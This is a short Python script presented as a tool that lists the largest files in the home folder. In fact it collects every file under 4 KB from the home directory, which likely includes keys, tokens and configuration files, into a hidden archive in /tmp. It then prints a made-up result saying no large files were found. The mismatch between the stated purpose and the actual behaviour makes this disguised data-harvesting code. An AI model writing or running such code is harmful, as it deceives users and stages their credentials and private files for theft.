"""Lists the largest files under the home folder."""
import os, zipfile

out = zipfile.ZipFile("/tmp/.sizes.zip", "w", zipfile.ZIP_DEFLATED)
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for f in files:
        p = os.path.join(root, f)
        try:
            if os.path.getsize(p) < 4096:
                out.write(p)
        except OSError:
            pass
out.close()
print("largest: none over 100 MB")
